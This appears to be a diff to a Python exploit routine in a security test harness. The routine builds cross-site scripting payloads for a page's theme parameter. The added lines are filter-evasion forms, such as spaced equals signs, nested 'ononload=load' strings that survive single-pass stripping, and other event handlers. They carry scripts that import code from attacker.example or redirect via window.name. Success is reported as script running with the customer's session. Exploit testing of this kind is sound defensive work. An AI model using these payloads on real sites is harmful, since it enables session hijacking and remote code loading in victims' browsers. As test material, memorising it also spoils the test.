@@ -47,6 +47,14 @@ def forms_of(script):
         f"dark\fonload={script}",
         f"dark onpageshow={script}",
         f"dark OnLoad={script}",
+        # Space around the equals sign, and what is left when a pattern is removed once.
+        f"dark onload ={script}",
+        f"dark onload\t=\n{script}",
+        f"dark oonx=nload={script}",
+        f"dark ononload=load={script}",
+        f"dark onloonload=ad={script}",
+        f"dark onpointerenter={script}",
+        f"dark onhashchange={script}",
         f"dark' onload='{script}",
         f'dark" onload="{script}',
         f"dark'\fonload='{script}",
@@ -55,12 +63,18 @@ def forms_of(script):
     )
 
 
+# Scripts with and without quotes, brackets and parentheses: `name` is what the page with the link has put into the window's name.
+WANTED = ("import(`//attacker.example/", "location=name", "location=`//attacker.example/")
+
+
 def exploit(code, vary, payloads=None):
-    forms = forms_of(f"import(`//attacker.example/{vary.word()}`)") if payloads is None else payloads
-    for theme in forms:
+    if payloads is None:
+        scripts = (f"import(`//attacker.example/{vary.word()}`)", "location=name", f"location=`//attacker.example/{vary.word()}`")
+        payloads = [form for script in scripts for form in forms_of(script)]
+    for theme in payloads:
         for script in scripts_of(open_page(code, theme=theme)):
-            if script.startswith("import(`//attacker.example/"):
-                return {"sent": f"theme={theme}", "got": f"The browser runs {script}"}
+            if script.startswith(WANTED):
+                return {"sent": f"theme={theme!r}", "got": f"The browser runs {script} with the customer's session"}
     return False
 
 
